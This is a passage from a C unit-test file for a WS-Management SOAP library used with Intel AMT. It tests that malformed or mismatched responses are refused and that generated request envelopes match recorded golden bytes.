	free(huge);
}

/* RelatesTo mismatch: another message's answer. */
static void hostile_relates_to_mismatch(struct fx *f, struct pp_wsman_props *items)
{
	struct pp_wsman_call other = f->call;
	snprintf(other.message_id, sizeof(other.message_id), "uuid:other");
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, "c2", items, 1, false, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&other, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "RelatesTo");
}

/* Items of another class; neither context nor end; an oversized context. */
static void hostile_class_and_context(struct fx *f, struct pp_wsman_props *items)
{
	struct pp_wsman_call gs = f->call;
	snprintf(gs.resource_uri, sizeof(gs.resource_uri), "%s", PP_AMT_URI_GENERAL_SETTINGS);
	assert_int_equal(
	    pp_wsman_response_parse(&gs, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "Items holds");
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, NULL, items, 1, false, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "neither");
	char big[PP_WSMAN_CONTEXT_MAX + 2];
	memset(big, 'B', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, big, items, 1, false, &f->reply, &f->err),
	    -PP_ETOOBIG);
}

/* A hand-made answer with a 129-byte context is refused by the client. */
static void hostile_handmade_big_context(struct fx *f)
{
	char big[PP_WSMAN_CONTEXT_MAX + 2];
	memset(big, 'B', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	char doc[2048];
	snprintf(doc, sizeof(doc),
		 "<s:Envelope xmlns:s=\"" PP_WSMAN_NS_SOAP "\" xmlns:a=\"" PP_WSMAN_NS_WSA
		 "\" xmlns:n=\"" PP_WSMAN_NS_WSEN "\"><s:Header><a:Action>" PP_WSMAN_ACTION_PULL
		 "Response</a:Action><a:RelatesTo>%s</a:RelatesTo></s:Header><s:Body>"
		 "<n:PullResponse><n:EnumerationContext>%s</n:EnumerationContext>"
		 "</n:PullResponse></s:Body></s:Envelope>",
		 f->call.message_id, big);
	assert_true(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err) < 0);
	assert_string_equal(f->resp.enum_context, "");
}

/* A body on a ReleaseResponse. */
static void hostile_release_with_body(struct fx *f)
{
	char doc[2048];
	struct pp_wsman_call rel = f->call;
	rel.op = PP_WSMAN_OP_RELEASE;
	snprintf(rel.action, sizeof(rel.action), "%s", PP_WSMAN_ACTION_RELEASE);
	snprintf(doc, sizeof(doc),
		 "<s:Envelope xmlns:s=\"" PP_WSMAN_NS_SOAP "\" xmlns:a=\"" PP_WSMAN_NS_WSA
		 "\"><s:Header><a:Action>" PP_WSMAN_ACTION_RELEASE
		 "Response</a:Action><a:RelatesTo>%s</a:RelatesTo></s:Header><s:Body><x/>"
		 "</s:Body></s:Envelope>",
		 f->call.message_id);
	assert_int_equal(pp_wsman_response_parse(&rel, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
}

static void test_enum_hostile_responses(void **state)
{
	struct fx *f = *state;
	struct pp_wsman_props *items = calloc(200, sizeof(*items));
	assert_non_null(items);
	assert_int_equal(pp_wsman_build_pull(TO, SW, "c", 999, &f->call, &f->buf, &f->err), 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);

	hostile_many_items(f, items);
	hostile_over_envelope_cap(f);
	hostile_relates_to_mismatch(f, items);
	hostile_class_and_context(f, items);
	hostile_handmade_big_context(f);
	hostile_release_with_body(f);
	for (int i = 0; i < 200; i++)
		pp_wsman_props_wipe(&items[i]);
	free(items);
}

static void test_new_faults(void **state)
{
	(void)state;
	assert_string_equal(pp_wsman_fault_name(PP_WSMAN_FAULT_INVALID_SELECTORS),
			    "wsman:InvalidSelectors");
	assert_int_equal(pp_wsman_fault_http_status(PP_WSMAN_FAULT_INVALID_SELECTORS), 400);
	assert_string_equal(pp_wsman_fault_name(PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT),
			    "wsen:InvalidEnumerationContext");
	assert_int_equal(pp_wsman_fault_http_status(PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT), 500);
}

/* ---- the requests' bytes ----------------------------------------------------------
 * Requests are written as text (lib/wsman/xmlw.h), no longer through a libxml2 tree:
 * these are the bytes the tree builders gave, recorded before the change (the random
 * MessageID replaced by "MSGID"). Escapes, empty elements, selectors, namespaces. */

static const struct {
	const char *name, *want;
} golden[] = {
    {"get", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
	    ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
	    "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
	    "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap"
	    ".org/ws/2004/09/transfer/Get</wsa:Action><wsa:To s:mustUnderstand=\"true\">h"
	    "ttps://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"t"
	    "rue\">http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationSe"
	    "rvice</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><w"
	    "sa:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</"
	    "wsa:Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTime"
	    "out></s:Header><s:Body/></s:Envelope>\n"},
    {"get-sel", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		"04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		"xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap"
		".org/ws/2004/09/transfer/Get</wsa:Action><wsa:To s:mustUnderstand=\"true\">/"
		"wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"true\">http://intel.com/"
		"wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationService</wsman:ResourceUR"
		"I><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:Address>http://schem"
		"as.xmlsoap.org/ws/2004/08/addressing/role/anonymous</wsa:Address></wsa:Reply"
		"To><wsman:OperationTimeout>PT60S</wsman:OperationTimeout><wsman:SelectorSet>"
		"<wsman:Selector Name=\"Name\">Intel(r) AMT &amp; &lt;stuff&gt;</wsman:Select"
		"or><wsman:Selector Name=\"CreationClassName\">AMT_X</wsman:Selector></wsman:"
		"SelectorSet></s:Header><s:Body/></s:Envelope>\n"},
    {"put", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
	    ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
	    "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
	    "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap"
	    ".org/ws/2004/09/transfer/Put</wsa:Action><wsa:To s:mustUnderstand=\"true\">h"
	    "ttps://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"t"
	    "rue\">http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationSe"
	    "rvice</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><w"
	    "sa:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</"
	    "wsa:Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTime"
	    "out><wsman:SelectorSet><wsman:Selector Name=\"Name\">Intel(r) AMT &amp; &lt;"
	    "stuff&gt;</wsman:Selector><wsman:Selector Name=\"CreationClassName\">AMT_X</"
	    "wsman:Selector></wsman:SelectorSet></s:Header><s:Body><h:AMT_SetupAndConfigu"
	    "rationService xmlns:h=\"http://intel.com/wbem/wscim/1/amt-schema/1/AMT_Setup"
	    "AndConfigurationService\"><h:Username>admin</h:Username><h:DigestPassword>a&"
	    "#13;\nb&lt;c&gt;&amp;d\"e'f</h:DigestPassword><h:Empty></h:Empty></h:AMT_Set"
	    "upAndConfigurationService></s:Body></s:Envelope>\n"},
    {"put-empty", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		  ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		  "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		  "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap"
		  ".org/ws/2004/09/transfer/Put</wsa:Action><wsa:To s:mustUnderstand=\"true\">h"
		  "ttps://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"t"
		  "rue\">http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationSe"
		  "rvice</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><w"
		  "sa:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</"
		  "wsa:Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTime"
		  "out></s:Header><s:Body><h:AMT_SetupAndConfigurationService xmlns:h=\"http://"
		  "intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationService\"/></s:"
		  "Body></s:Envelope>\n"},
    {"invoke", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
	       ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
	       "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
	       "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://intel.com/wbem/"
	       "wscim/1/amt-schema/1/AMT_SetupAndConfigurationService/SetMEBxPassword</wsa:A"
	       "ction><wsa:To s:mustUnderstand=\"true\">https://127.0.0.1:16993/wsman</wsa:T"
	       "o><wsman:ResourceURI s:mustUnderstand=\"true\">http://intel.com/wbem/wscim/1"
	       "/amt-schema/1/AMT_SetupAndConfigurationService</wsman:ResourceURI><wsa:Messa"
	       "geID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:Address>http://schemas.xmlsoap.o"
	       "rg/ws/2004/08/addressing/role/anonymous</wsa:Address></wsa:ReplyTo><wsman:Op"
	       "erationTimeout>PT60S</wsman:OperationTimeout></s:Header><s:Body><h:SetMEBxPa"
	       "ssword_INPUT xmlns:h=\"http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupA"
	       "ndConfigurationService\"><h:Username>admin</h:Username><h:DigestPassword>a&#"
	       "13;\nb&lt;c&gt;&amp;d\"e'f</h:DigestPassword><h:Empty></h:Empty></h:SetMEBxP"
	       "assword_INPUT></s:Body></s:Envelope>\n"},
    {"invoke-none", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		    ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		    "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		    "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://intel.com/wbem/"
		    "wscim/1/amt-schema/1/AMT_SetupAndConfigurationService/CommitChanges</wsa:Act"
		    "ion><wsa:To s:mustUnderstand=\"true\">https://127.0.0.1:16993/wsman</wsa:To>"
		    "<wsman:ResourceURI s:mustUnderstand=\"true\">http://intel.com/wbem/wscim/1/a"
		    "mt-schema/1/AMT_SetupAndConfigurationService</wsman:ResourceURI><wsa:Message"
		    "ID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:Address>http://schemas.xmlsoap.org"
		    "/ws/2004/08/addressing/role/anonymous</wsa:Address></wsa:ReplyTo><wsman:Oper"
		    "ationTimeout>PT60S</wsman:OperationTimeout></s:Header><s:Body><h:CommitChang"
		    "es_INPUT xmlns:h=\"http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndCo"
		    "nfigurationService\"/></s:Body></s:Envelope>\n"},
    {"invoke-sel-empty",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
     ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
     "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
     "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://intel.com/wbem/"
     "wscim/1/amt-schema/1/AMT_SetupAndConfigurationService/CommitChanges</wsa:Act"
     "ion><wsa:To s:mustUnderstand=\"true\">https://127.0.0.1:16993/wsman</wsa:To>"
     "<wsman:ResourceURI s:mustUnderstand=\"true\">http://intel.com/wbem/wscim/1/a"
     "mt-schema/1/AMT_SetupAndConfigurationService</wsman:ResourceURI><wsa:Message"
     "ID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:Address>http://schemas.xmlsoap.org"
     "/ws/2004/08/addressing/role/anonymous</wsa:Address></wsa:ReplyTo><wsman:Oper"
     "ationTimeout>PT60S</wsman:OperationTimeout><wsman:SelectorSet><wsman:Selecto"
     "r Name=\"Name\">Intel(r) AMT &amp; &lt;stuff&gt;</wsman:Selector><wsman:Sele"
     "ctor Name=\"CreationClassName\">AMT_X</wsman:Selector></wsman:SelectorSet></"
     "s:Header><s:Body><h:CommitChanges_INPUT xmlns:h=\"http://intel.com/wbem/wsci"
     "m/1/amt-schema/1/AMT_SetupAndConfigurationService\"/></s:Body></s:Envelope>"
     "\n"},
    {"enumerate", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		  ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		  "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		  "xsd\" xmlns:wsen=\"http://schemas.xmlsoap.org/ws/2004/09/enumeration\"><s:He"
		  "ader><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/ws/200"
		  "4/09/enumeration/Enumerate</wsa:Action><wsa:To s:mustUnderstand=\"true\">htt"
		  "ps://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"tru"
		  "e\">http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationServ"
		  "ice</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa"
		  ":Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</ws"
		  "a:Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTimeou"
		  "t></s:Header><s:Body><wsen:Enumerate/></s:Body></s:Envelope>\n"},
    {"pull", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
	     ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
	     "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
	     "xsd\" xmlns:wsen=\"http://schemas.xmlsoap.org/ws/2004/09/enumeration\"><s:He"
	     "ader><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/ws/200"
	     "4/09/enumeration/Pull</wsa:Action><wsa:To s:mustUnderstand=\"true\">https://"
	     "127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"true\">h"
	     "ttp://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationService</"
	     "wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:Addr"
	     "ess>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</wsa:Add"
	     "ress></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTimeout></s"
	     ":Header><s:Body><wsen:Pull><wsen:EnumerationContext>ctx-01&amp;&lt;2&gt;</ws"
	     "en:EnumerationContext><wsen:MaxElements>999</wsen:MaxElements><wsen:MaxChara"
	     "cters>99999</wsen:MaxCharacters></wsen:Pull></s:Body></s:Envelope>\n"},
    {"release", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		"04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		"xsd\" xmlns:wsen=\"http://schemas.xmlsoap.org/ws/2004/09/enumeration\"><s:He"
		"ader><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/ws/200"
		"4/09/enumeration/Release</wsa:Action><wsa:To s:mustUnderstand=\"true\">https"
		"://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"true"
		"\">http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationServi"
		"ce</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><wsa:ReplyTo><wsa:"
		"Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</wsa"
		":Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman:OperationTimeout"
		"></s:Header><s:Body><wsen:Release><wsen:EnumerationContext>ctx-01</wsen:Enum"
		"erationContext></wsen:Release></s:Body></s:Envelope>\n"},
    {"uri-quotes", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:Envelope xmlns:s=\"http://www"
		   ".w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/20"
		   "04/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman."
		   "xsd\"><s:Header><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap"
		   ".org/ws/2004/09/transfer/Get</wsa:Action><wsa:To s:mustUnderstand=\"true\">h"
		   "ttps://127.0.0.1:16993/wsman</wsa:To><wsman:ResourceURI s:mustUnderstand=\"t"
		   "rue\">http://x\"y'z</wsman:ResourceURI><wsa:MessageID>MSGID</wsa:MessageID><"
		   "wsa:ReplyTo><wsa:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/ro"
		   "le/anonymous</wsa:Address></wsa:ReplyTo><wsman:OperationTimeout>PT60S</wsman"
		   ":OperationTimeout></s:Header><s:Body/></s:Envelope>\n"},
};

static const char *golden_want(const char *name)
{
	for (size_t i = 0; i < sizeof(golden) / sizeof(golden[0]); i++)
		if (!strcmp(golden[i].name, name))
			return golden[i].want;
	fail_msg("no golden request %s", name);
	return NULL;
}

/* The envelope with its MessageID replaced by "MSGID", compared with the recording. */
static void same_bytes(const char *name, const struct pp_buf *b, const struct pp_wsman_call *c)
{
	const char *s = (const char *)b->data;
	const char *id = strstr(s, c->message_id);
	assert_non_null(id);
	assert_int_equal(strncmp(c->message_id, "uuid:", 5), 0);
	char got[8192];
	int n =
	    snprintf(got, sizeof(got), "%.*sMSGID%s", (int)(id - s), s, id + strlen(c->message_id));
	assert_true(n > 0 && (size_t)n < sizeof(got));
	assert_string_equal(got, golden_want(name));
	assert_int_equal(b->len, strlen(s)); /* NUL-terminated, nothing after */
}

/* The properties every request case below sends. */
static void request_props(struct pp_wsman_props *sel, struct pp_wsman_props *par,
			  struct pp_wsman_props *none)
{
	struct pp_err e = {0};
	pp_wsman_props_init(sel);
	pp_wsman_props_init(par);
	pp_wsman_props_init(none);
	assert_int_equal(pp_wsman_props_add(sel, "Name", "Intel(r) AMT & <stuff>", &e), 0);
	assert_int_equal(pp_wsman_props_add(sel, "CreationClassName", "AMT_X", &e), 0);
	assert_int_equal(pp_wsman_props_add(par, "Username", "admin", &e), 0);
	assert_int_equal(pp_wsman_props_add(par, "DigestPassword", "a\r\nb<c>&d\"e'f", &e), 0);
	assert_int_equal(pp_wsman_props_add(par, "Empty", "", &e), 0);
}

static void test_request_bytes(void **state)
{
	(void)state;
	static const char to[] = "https://127.0.0.1:16993/wsman";
	static const char uri[] =
	    "http://intel.com/wbem/wscim/1/amt-schema/1/AMT_SetupAndConfigurationService";
	struct pp_buf b;
	struct pp_err e = {0};
	struct pp_wsman_call c;
	struct pp_wsman_props sel, par, none;
	request_props(&sel, &par, &none);
	pp_buf_init(&b, PP_WSMAN_DOC_MAX);
#define SAME(name, call)                                                                           \
	do {                                                                                       \
		assert_int_equal(call, 0);                                                         \
		same_bytes(name, &b, &c);                                                          \
	} while (0)
	SAME("get", pp_wsman_build_get(to, uri, NULL, &c, &b, &e));
	SAME("get-sel", pp_wsman_build_get("/wsman", uri, &sel, &c, &b, &e));
	SAME("put", pp_wsman_build_put(to, uri, &sel, &par, &c, &b, &e));
	SAME("put-empty", pp_wsman_build_put(to, uri, NULL, &none, &c, &b, &e));
	SAME("invoke", pp_wsman_build_invoke(to, uri, "SetMEBxPassword", NULL, &par, &c, &b, &e));
	SAME("invoke-none",
	     pp_wsman_build_invoke(to, uri, "CommitChanges", NULL, NULL, &c, &b, &e));
	SAME("invoke-sel-empty",
	     pp_wsman_build_invoke(to, uri, "CommitChanges", &sel, &none, &c, &b, &e));
	SAME("enumerate", pp_wsman_build_enumerate(to, uri, &c, &b, &e));
	SAME("pull", pp_wsman_build_pull(to, uri, "ctx-01&<2>", 999, &c, &b, &e));
	SAME("release", pp_wsman_build_release(to, uri, "ctx-01", &c, &b, &e));
	SAME("uri-quotes", pp_wsman_build_get(to, "http://x\"y'z", NULL, &c, &b, &e));
#undef SAME
	/* Refusals, in the same words. */
	assert_true(pp_wsman_build_invoke(to, uri, "Bad Name", NULL, NULL, &c, &b, &e) < 0);
	assert_string_equal(e.msg, "method name 'Bad Name' is not valid");
	assert_true(pp_wsman_build_pull(to, uri, "", 1, &c, &b, &e) < 0);
	assert_string_equal(e.msg, "wsen:EnumerationContext is empty");
	assert_true(pp_wsman_build_pull(to, uri, "x", 0, &c, &b, &e) < 0);
	assert_string_equal(e.msg, "wsen:MaxElements must be 1 or more");
	assert_true(pp_wsman_build_get("", uri, NULL, &c, &b, &e) < 0);
	assert_string_equal(e.msg, "wsa:To is empty");
	pp_buf_free(&b);
}

int main(void)
{
	pp_wsman_init();
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_request_bytes),
	    cmocka_unit_test_setup_teardown(test_get_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_put_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_invoke_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_invoke_no_params_and_outputs, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_relates_to_mismatch, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_faults_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_fault_prefixes_and_reason, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_escaping_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_props_limits, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_missing_headers, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_header_rules, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_actions_and_bodies, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_oversize_refused, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_malformed_and_namespaces, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_entities_refused, setup, teardown),
	    cmocka_unit_test(test_helpers),
	    cmocka_unit_test_setup_teardown(test_intel_enum_envelopes, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_enumerate_pull_release_roundtrip, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_optimized_enumerate, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_enum_hostile_requests, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_enum_hostile_responses, setup, teardown),
	    cmocka_unit_test(test_new_faults),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
